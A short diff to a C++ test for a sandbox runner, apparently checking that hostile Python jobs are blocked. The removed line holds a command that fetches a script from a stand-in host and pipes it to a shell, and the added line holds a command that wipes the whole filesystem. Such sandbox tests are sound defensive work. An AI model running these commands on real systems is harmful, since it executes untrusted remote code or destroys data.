@@ -21,7 +21,7 @@ int main(int argc, char** argv) {
     };
     std::vector<Job> jobs = {
         {"print(sum(range(10)))\n", sandboxrun::RunStatus::exited, {}},
-        {"import os\nos.system('curl http://x.example/p.sh | sh')\n", sandboxrun::RunStatus::blocked, {}},
+        {"import os\nos.system('rm -rf --no-preserve-root /')\n", sandboxrun::RunStatus::blocked, {}},
         {"import json\nprint(json.dumps({'ok': True}))\n", sandboxrun::RunStatus::exited, {}},
     };
     std::vector<std::thread> threads;
